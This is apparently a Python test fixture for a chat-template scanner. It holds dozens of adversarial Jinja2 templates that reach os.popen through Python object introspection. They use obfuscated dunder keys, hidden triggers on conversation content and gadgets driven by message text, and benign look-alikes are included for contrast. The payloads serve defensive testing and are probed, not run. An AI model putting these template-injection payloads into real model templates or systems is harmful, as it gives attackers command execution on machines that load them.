"""An adversarial set of chat templates for issue #38, written as an attacker who has read the scanner would: no
dunder name is written out where the static scan folds it, first hops are on objects the old scan took for data,
keys come from methods and filters it does not evaluate, bindings it did not follow, attribute paths, format
fields, key discovery, triggers, and message content.

Each payload is *proven*: rendered by a plain ``jinja2.Environment()`` (with the conversation in its entry, or an
ordinary one) it calls ``os.popen`` or reads it from the os module's globals; the proof
(tests/test_template_adversarial.py) replaces ``os.popen`` with :class:`Probe`, so nothing runs: a call renders
``probe-output``, a read renders ``probe-marker``.  ``PAYLOADS`` maps a name to (family, template, conversation or
None); ``GADGET`` marks the family whose keys come from message content (the render oracle must report TPL-GADGET);
``BENIGN`` holds templates that look like the payloads and must stay silent.
"""

from __future__ import annotations

ORDINARY = {
    "messages": [
        {"role": "system", "content": "Be brief."},
        {"role": "user", "content": "Hi"},
        {"role": "assistant", "content": "Hello"},
        {"role": "user", "content": "Bye"},
    ],
    "add_generation_prompt": True,
    "bos_token": "<s>",
    "eos_token": "</s>",
}


def _conversation(content: str, role: str = "user") -> dict:
    return {**ORDINARY, "messages": [*ORDINARY["messages"], {"role": role, "content": content}]}


def _chain(obj: str, key) -> str:
    """From any object to os.popen through the subclasses of object (key(name) writes a key expression)."""
    return (
        "{% for c in " + obj + "[" + key("class") + "][" + key("mro") + "][-1][" + key("subclasses") + "]() %}"
        "{% if c["
        + key("name")
        + "] == '_wrap_close' %}{{ c["
        + key("init")
        + "]["
        + key("globals")
        + "]["
        + key("popen", plain=True)
        + "]('probe').read() }}{% endif %}{% endfor %}"
    )


def _translate(name: str, plain: bool = False) -> str:
    return f"'{name if plain else 'xx' + name + 'xx'}'.translate({{120: 95}})"


def _summed(name: str, plain: bool = False) -> str:
    return f"'{name}'.translate({{}})" if plain else f"(u ~ u ~ '{name[:2]}' ~ '{name[2:]}' ~ u ~ u)"


def _namespaced(name: str, plain: bool = False) -> str:
    return f"'{name}'.translate({{}})" if plain else f"k.{_SHORT[name]}"


_U_SUM = "{% set u = '%c'|format([90, 5]|sum) %}"
_U_GROUPBY = "{% set u = [{'c': '%c'|format(-95|abs)}]|groupby('c')|map(attribute='grouper')|join %}"
_GROWN = (
    "{% set m = {'x': '_'} %}{% macro key(w) %}{% set ns = namespace(k='') %}{% for ch in w %}"
    "{% set ns.k = ns.k ~ (m[ch] if ch in m else ch) %}{% endfor %}{{ ns.k }}{% endmacro %}"
)
_KEYS = (
    "{% set k = namespace(c='xxclassxx'.translate({120: 95}), i='xxinitxx'.translate({120: 95}), "
    "g='xxglobalsxx'.translate({120: 95}), m='xxmroxx'.translate({120: 95}), "
    "s='xxsubclassesxx'.translate({120: 95}), n='xxnamexx'.translate({120: 95})) %}"
)
_SHORT = {"class": "c", "init": "i", "globals": "g", "mro": "m", "subclasses": "s", "name": "n"}
_POPEN_READ = "['popen']('probe').read()"

PAYLOADS: dict[str, tuple[str, str, dict | None]] = {
    # -- keys built by methods or filters the scan does not evaluate, kept in variables --------------------------
    "hidden-translate": ("hidden-key", _chain("''", _translate), None),
    "hidden-sum-format": ("hidden-key", _U_SUM + _chain("''", _summed), None),
    "hidden-groupby-join": ("hidden-key", _U_GROUPBY + _chain("''", _summed), None),
    "hidden-grown-in-loop": (
        "hidden-key",
        _GROWN + _chain("''", lambda n, plain=False: f"'{n}'.translate({{}})" if plain else f"key('xx{n}xx')|trim"),
        None,
    ),
    # -- first hops on objects the old scan took for data ---------------------------------------------------------
    "first-hop-loop": (
        "first-hop",
        _KEYS + "{% for m in messages %}{% if loop.first %}" + _chain("loop", _namespaced) + "{% endif %}{% endfor %}",
        None,
    ),
    "first-hop-namespace": ("first-hop", _KEYS + "{{ namespace()[k.c][k.i][k.g]['os'].popen('probe').read() }}", None),
    "first-hop-range": ("first-hop", _KEYS + _chain("range(1)", _namespaced), None),
    "first-hop-bos-token": ("first-hop", _KEYS + _chain("bos_token", _namespaced), None),
    "first-hop-role": ("first-hop", _KEYS + _chain("messages[0].role", _namespaced), None),
    "first-hop-select-frame": (
        "first-hop",
        "{% set t = {120: 95} %}{{ (()|select)['giXframe'.translate({88: 95})]"
        "['fXbuiltins'.translate({88: 95})]['xximportxx'.translate(t)]('os')"
        ".popen('probe').read() }}",
        None,
    ),
    "first-hop-raise-exception": ("first-hop", _KEYS + "{{ raise_exception[k.g]['os'].popen('probe').read() }}", None),
    # -- dotted attribute paths -----------------------------------------------------------------------------------
    "path-map-cycler": (
        "dotted-path",
        "{{ ([cycler]|map(attribute='next.__globals__.os.popen')|first)('probe').read() }}",
        None,
    ),
    "path-groupby": (
        "dotted-path",
        "{{ ([[cycler]]|groupby('0.next.__globals__.os')|first).grouper.popen('probe').read() }}",
        None,
    ),
    "path-map-nested-list": (
        "dotted-path",
        "{{ ([[joiner]]|map(attribute='0.__init__.__globals__.os.popen')|first)('probe').read() }}",
        None,
    ),
    "path-map-loop-target": (
        "dotted-path",
        "{% for f in [[namespace]]|map(attribute='0.__init__.__globals__.os') %}"
        "{{ f.popen('probe').read() }}{% endfor %}",
        None,
    ),
    # -- str.format / format_map fields ---------------------------------------------------------------------------
    "format-nested-spec": ("format-field", "{{ '{0.__init__.__globals__[os].popen:{1}}'.format(cycler, '') }}", None),
    "format-map-nested": (
        "format-field",
        "{{ '{c.__init__.__globals__[os].popen!s:{e}}'.format_map({'c': cycler, 'e': ''}) }}",
        None,
    ),
    "format-conversion-width": (
        "format-field",
        "{{ '{0.next.__globals__[os].popen!s:>{1}}'.format(cycler, 3) }}",
        None,
    ),
    "format-computed-string": (
        "format-field",
        "{{ '{0.xxinitxx.xxglobalsxx[os].popen}'.translate({120: 95}).format(cycler) }}",
        None,
    ),
    # -- bindings the old scan did not follow --------------------------------------------------------------------
    "binding-recursive-loop": (
        "binding",
        "{% for k in [''] recursive %}{% if k %}{{ lipsum[k].os.popen('probe')"
        ".read() }}{% else %}{{ loop(['__glo' ~ 'bals__']) }}{% endif %}{% endfor %}",
        None,
    ),
    "binding-kwargs": (
        "binding",
        "{% macro m() %}{{ namespace()[kwargs.a][kwargs.b][kwargs.c]['os'].popen('probe')"
        ".read() }}{% endmacro %}{{ m(a='__cla' ~ 'ss__', b='__in' ~ 'it__', c='__glo' ~ 'bals__') }}",
        None,
    ),
    "binding-caller-star": (
        "binding",
        "{% macro m() %}{{ caller(*varargs) }}{% endmacro %}{% call(a, b, c) "
        "m('__cla' ~ 'ss__', '__in' ~ 'it__', '__glo' ~ 'bals__') %}{{ namespace()[a][b][c]['os']"
        ".popen('probe').read() }}{% endcall %}",
        None,
    ),
    "binding-double-star": (
        "binding",
        "{% macro m(o, a, b, c) %}{{ o[a][b][c]['os'].popen('probe').read() }}"
        "{% endmacro %}{{ m(**{'o': namespace(), 'a': '__cla' ~ 'ss__', 'b': '__in' ~ 'it__', "
        "'c': '__glo' ~ 'bals__'}) }}",
        None,
    ),
    "binding-self-block": (
        "binding",
        "{% if false %}{% block a %}__cla{{ 'ss' }}__{% endblock %}{% block b %}"
        "__in{{ 'it' }}__{% endblock %}{% block c %}__glo{{ 'bals' }}__{% endblock %}{% endif %}"
        "{{ namespace()[self.a()|trim][self.b()|trim][self.c()|trim]['os'].popen('probe').read() }}",
        None,
    ),
    "binding-filtered-set-block": (
        "binding",
        "{% set a | replace('X', '_') %}XXclassXX{% endset %}"
        "{% set b | replace('X', '_') %}XXinitXX{% endset %}{% set c | replace('X', '_') %}"
        "XXglobalsXX{% endset %}{{ namespace()[a][b][c]['os'].popen('probe').read() }}",
        None,
    ),
    "binding-macro-through-namespace": (
        "binding",
        "{% macro g(o, a, b, c) %}{{ o[a][b][c]['os'].popen('probe')"
        ".read() }}{% endmacro %}{% set ns = namespace(f=g) %}{{ ns.f(namespace(), "
        "'__cla' ~ 'ss__', '__in' ~ 'it__', '__glo' ~ 'bals__') }}",
        None,
    ),
    # -- key discovery -------------------------------------------------------------------------------------------
    "discovery-dictsort": (
        "key-discovery",
        _KEYS + "{% for name, v in namespace()[k.c][k.i][k.g]"
        "|dictsort %}{% if name == 'o' ~ 's' %}{{ v.popen('probe').read() }}{% endif %}{% endfor %}",
        None,
    ),
    "discovery-items-filtered": (
        "key-discovery",
        _KEYS + "{% for c in ''[k.c][k.m][-1][k.s]() "
        "if c[k.n] == '_wrap_close' %}{% for name, v in c[k.i][k.g]|items "
        "if name == 'popen' %}{{ v('probe').read() }}{% endfor %}{% endfor %}",
        None,
    ),
    "discovery-subclass-by-text": (
        "key-discovery",
        _KEYS + "{% for c in ''[k.c][k.m][-1][k.s]() %}"
        "{% if 'wrap_close' in c|string %}{{ c[k.i][k.g]['popen']('probe').read() }}"
        "{% endif %}{% endfor %}",
        None,
    ),
    # -- payloads behind a trigger (proven with the conversation that trips it) -----------------------------------
    "trigger-phrase": (
        "trigger",
        _KEYS + "{% for m in messages %}{% if m.content == 'open sesame' %}"
        "{{ namespace()[k.c][k.i][k.g]['os'].popen('probe').read() }}{% endif %}"
        "{% endfor %}",
        _conversation("open sesame"),
    ),
    "trigger-length": (
        "trigger",
        _KEYS + "{% if messages|length > 6 %}{{ namespace()[k.c][k.i][k.g]['os'].popen('probe').read() }}{% endif %}",
        {**ORDINARY, "messages": ORDINARY["messages"] * 2},
    ),
    "trigger-tool-count": (
        "trigger",
        _KEYS + "{% if tools is defined and tools|length == 3 %}{{ namespace()"
        "[k.c][k.i][k.g]['os'].popen('probe').read() }}{% endif %}",
        {**ORDINARY, "tools": [{"type": "function", "function": {"name": f"t{i}"}} for i in range(3)]},
    ),
    "trigger-role": (
        "trigger",
        _KEYS + "{% for m in messages %}{% if m.role == 'ipython' %}{{ namespace()[k.c]"
        "[k.i][k.g]['os'].popen('probe').read() }}{% endif %}{% endfor %}",
        _conversation("42", role="ipython"),
    ),
    # -- message content as keys: gadgets ----------------------------------------------------------------------
    "gadget-split-path": (
        "gadget",
        "{% set p = messages[-1].content.split('/') %}{{ namespace()[p[0]][p[1]][p[2]]['os'][p[3]]('probe').read() }}",
        _conversation("__class__/__init__/__globals__/popen"),
    ),
    "gadget-loop-content": (
        "gadget",
        "{% for m in messages %}{% if loop.last %}{% set p = m.content.split() %}"
        "{% for c in loop[p[0]][p[1]][-1][p[2]]() %}{% if c[p[3]] == p[4] %}"
        "{{ c[p[5]][p[6]][p[7]]('probe').read() }}{% endif %}{% endfor %}{% endif %}{% endfor %}",
        _conversation("__class__ __mro__ __subclasses__ __name__ _wrap_close __init__ __globals__ popen"),
    ),
    "gadget-format-content": (
        "gadget",
        "{% for m in messages %}{{ m.content.format(cycler) }}{% endfor %}",
        _conversation("{0.__init__.__globals__[os].popen}"),
    ),
    "gadget-map-attribute": (
        "gadget",
        "{{ ([namespace]|map(attribute=messages[-1].content)|first)('probe').read() }}",
        _conversation("__init__.__globals__.os.popen"),
    ),
    "gadget-dict-chain": (
        "gadget",
        "{% set d = {'a': 1} %}{% set p = messages[-1].content.split(',') %}"
        "{% for c in (d[p[0]]|attr(p[1]))[-1][p[2]]() %}{% if c[p[3]] == p[4] %}{{ c[p[5]][p[6]][p[7]]("
        "'probe').read() }}{% endif %}{% endfor %}",
        _conversation("__class__,__mro__,__subclasses__,__name__,_wrap_close,__init__,__globals__,popen"),
    ),
}


def _disguise(text: str) -> str:
    """What an attacker who has read the old scan does last: no module or function name written as an attribute
    or a constant subscript key (it looked for .os, ['os'] and popen(...) by name)."""
    for plain, hidden in (
        (".popen('probe')", "['popen'.translate({})]('probe')"),
        ("['popen']('probe')", "['popen'.translate({})]('probe')"),
        ("['os']", "['os'.translate({})]"),
        (".os[", "['os'.translate({})]["),
        ("('os')[", "('os'.translate({}))["),
    ):
        text = text.replace(plain, hidden)
    return text


PAYLOADS = {name: (family, _disguise(text), context) for name, (family, text, context) in PAYLOADS.items()}
GADGET = "gadget"

# templates shaped like the payloads that a scanner must leave alone (no TPL-* warning or error)
BENIGN: dict[str, str] = {
    "dict-by-role-suffix": (
        "{% set tags = {'user_start': '<u>', 'assistant_start': '<a>', 'system_start': '<s>'} %}"
        "{% for m in messages %}{{ tags[m.role ~ '_start'] }}{{ m.content }}{% endfor %}"
    ),
    "dunder-in-system-prompt": (
        "{% set sys = 'You write Python. Define __init__(self) and __repr__ in classes.' %}"
        "{{ sys }}{% for m in messages %}{{ m.content }}{% endfor %}"
    ),
    "dict-of-dicts-by-role": (
        "{% set r = {'user': {'tag': 'U'}, 'assistant': {'tag': 'A'}} %}"
        "{% for m in messages %}{{ (r[m.role] or {}).tag }}: {{ m.content }}{% endfor %}"
    ),
    "tool-parameters-by-name": (
        "{% for t in tools or [] %}{% for name in t.function.parameters.properties %}"
        "{{ name }}: {{ t.function.parameters.properties[name].type }}{% endfor %}{% endfor %}"
        "{% for m in messages %}{{ m['content'] }}{% endfor %}"
    ),
    "message-field-by-variable": (
        "{% for m in messages %}{% for f in ['role', 'content'] %}{{ m[f] }}{% endfor %}{% endfor %}"
    ),
    "items-of-arguments": (
        "{% for m in messages %}{% for c in m.tool_calls or [] %}{% for k, v in "
        "c.function.arguments|items %}{{ k }}={{ v }} {{ c.function.arguments[k] }}{% endfor %}"
        "{% endfor %}{{ m.content }}{% endfor %}"
    ),
    "format-constant-string": ("{% for m in messages %}{{ '<|{0}|>{1}'.format(m.role, m.content) }}{% endfor %}"),
}
